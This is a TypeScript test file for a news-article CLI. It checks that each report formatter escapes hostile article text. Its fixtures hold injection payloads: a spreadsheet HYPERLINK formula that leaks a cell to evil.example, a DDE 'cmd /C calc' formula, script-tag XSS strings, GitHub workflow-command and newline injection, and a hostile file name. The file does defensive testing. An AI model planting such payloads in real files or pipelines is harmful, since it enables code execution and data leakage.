// Text from articles is untrusted: whatever it holds (a <script>, a spreadsheet formula at a cell's start, GitHub
// workflow commands, %0A and real line breaks, table pipes, terminal escapes) reaches no output format unescaped.
// Two ways in: a hand-built report with the payload in every article-derived string, run through every formatter;
// and real articles (text and HTML) with the payload, run through the CLI in every format.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.js';
import { FORMAT_NAMES, FORMATTERS, type FormatName } from '../../src/report/index.js';
import { DEFAULT_FORMAT_OPTIONS } from '../../src/report/types.js';
import { runInProcess } from '../cli/run.js';
import { parseAnnotation } from '../report/ci-parse.js';
import { conflictReport } from '../report/conflict-report.js';
import { parseCsv } from '../report/csv-parse.js';
import { tempDir } from '../temp.js';

const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> ::error::pwned %0A::warning::injected\r\n::error file=x::real newline | *md* `code` \u001b[31mred\u001b[0m,comma:colon';

// Fields that are the tool's own vocabulary rather than article text.
const OWN = new Set(['status', 'kind', 'severity', 'id', 'doc', 'mention', 'docs', 'mentions', 'currency', 'granularity', 'iso', 'from', 'to', 'date', 'dateSource', 'code', 'offsets']);

function taint(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return OWN.has(key) ? value : `${PAYLOAD}${value}`;
  if (Array.isArray(value)) return value.map((v) => taint(v, key));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, taint(v, k)]));
  return value;
}

const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

/** The per-format rule for "escaped", applied to the output of a report whose article text holds PAYLOAD. */
function assertSafe(format: FormatName, out: string, clean: string): void {
  expect(out, `${format}: raw control character`).not.toMatch(RAW_CONTROL);
  switch (format) {
    case 'html':
      expect(out).not.toContain('<script>alert');
      // The only <script> elements are the formatter's own (as many as for a harmless report).
      expect(out.split('<script').length).toBe(clean.split('<script').length);
      break;
    case 'csv':
      for (const row of parseCsv(out)) for (const cell of row) expect(cell, 'CSV cell that a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);
      break;
    case 'github': {
      const lines = out.split('\n').filter((l) => l !== '');
      // No line was injected: as many workflow commands as for the harmless report, each one parseable.
      expect(lines.length).toBe(clean.split('\n').filter((l) => l !== '').length);
      for (const line of lines) {
        const a = parseAnnotation(line);
        // What the runner decodes is the article's text as written: "%0A" stays those three characters.
        if (a.message.includes('HYPERLINK')) expect(a.message).toContain('%0A::warning::injected\r\n::error file=x::real newline');
        // A property may not smuggle a separator: it decodes to the whole title, payload included.
        if (a.props.title?.includes('HYPERLINK')) expect(a.props.title).toContain(',comma:colon');
        expect(line).not.toContain('\r');
      }
      break;
    }
    case 'markdown':
    case 'junit':
      expect(out).not.toContain('<script>');
      if (format === 'markdown') {
        const pipes = (l: string) => l.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length;
        const table = out.split('\n').filter((l) => l.startsWith('|'));
        for (const l of table) expect(pipes(l), l).toBe(pipes(table[0]));
      }
      break;
    case 'json':
    case 'sarif':
      expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(PAYLOAD).slice(1, -1).slice(0, 40));
      break;
    case 'ndjson':
      for (const l of out.split('\n').filter(Boolean)) expect(() => JSON.parse(l)).not.toThrow();
      break;
    case 'table':
      break;
  }
}

describe('every formatter escapes article text', () => {
  const clean = conflictReport();
  const hostile = taint(clean) as Report;
  const texts = Object.fromEntries(hostile.documents.map((d) => [d.id, `${PAYLOAD}\nMore text.`]));

  it.each(FORMAT_NAMES.flatMap((f) => [[f, false], [f, true]] as Array<[FormatName, boolean]>))('%s (verbose %s)', (format, verbose) => {
    const options = { ...DEFAULT_FORMAT_OPTIONS, verbose, texts };
    const out = FORMATTERS[format](hostile, options);
    assertSafe(format, out, FORMATTERS[format](clean, { ...options, texts: {} }));
  });

  it('covers html when it is registered', () => {
    // Written while the HTML formatter was being added: fails loudly if it disappears from the registry.
    expect(FORMAT_NAMES).toContain('html');
  });
});

describe('hostile articles through the CLI, every format', () => {
  let dir: string;
  beforeAll(async () => {
    dir = tempDir('escape');
    await writeFile(
      path.join(dir, 'a.txt'),
      [
        'Hostile Daily, 12 June 2024',
        '',
        'Acme Widgets agreed to buy Zeta Labs for $10 million <script>alert(1)</script> %0A::error::pwned | `x` \u001b[31mred\u001b[0m, the company said.',
        '',
        '"<script>alert(2)</script> %0A::error::x," said Maria Gomez, chief executive of Acme Widgets.',
      ].join('\n'),
    );
    await writeFile(path.join(dir, 'b.txt'), 'Other Daily, 13 June 2024\n\n=HYPERLINK("http://evil") Acme Widgets agreed to buy Zeta Labs for $14 million, <b>sources</b> said %0A::warning:: ok.\n');
    await writeFile(
      path.join(dir, 'c.html'),
      '<html><head><meta property="article:published_time" content="2024-06-14"><script>alert("head")</script></head><body><article><p>Acme Widgets agreed to buy Zeta Labs for $12 million, &lt;script&gt;alert(3)&lt;/script&gt; a filing showed.</p><script>alert("body")</script><p>=cmd|\' /C calc\'!A0 said a trader.</p></article></body></html>',
    );
    // A file name is article-controlled too.
    await writeFile(path.join(dir, '=evil <i>name<i> %0A.txt'), 'Late Daily, 15 June 2024\n\nAcme Widgets agreed to buy Zeta Labs for $16 million.\n');
  });

  it.each(FORMAT_NAMES.map((f) => [f]))('%s', async (format) => {
    const r = await runInProcess(['check', '.', '--format', format, '--verbose', '--fail-on', 'none'], { cwd: dir });
    expect(r.code).toBe(0);
    expect(r.stdout.length).toBeGreaterThan(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    // Markup matters where a browser or Markdown renderer reads the output; CSV's danger is formulas, checked below.
    if (format === 'html' || format === 'markdown' || format === 'junit') {
      expect(r.stdout).not.toMatch(/<script>alert|<b>sources|<i>name/);
    }
    if (format === 'html') expect(r.stdout).not.toMatch(/alert\("(head|body)"\)/);
    if (format === 'csv') for (const row of parseCsv(r.stdout)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    if (format === 'github') {
      const lines = r.stdout.split('\n').filter(Boolean);
      expect(lines.length).toBeGreaterThan(0);
      for (const l of lines) expect(() => parseAnnotation(l)).not.toThrow();
    }
  });

  it('the scripts of an HTML article never reach the report, even as data', async () => {
    const r = await runInProcess(['extract', 'c.html', '--format', 'json'], { cwd: dir });
    expect(r.stdout).not.toMatch(/alert\("(head|body)"\)/);
    const report = JSON.parse(r.stdout) as Report;
    expect(report.documents[0]).toMatchObject({ date: '2024-06-14', offsets: 'extracted' });
    // The escaped text of a paragraph is text: it is kept, as data, for the formatters to escape.
    expect(report.mentions.some((m) => (m.sentence ?? '').includes('<script>alert(3)</script>'))).toBe(true);
  });
});
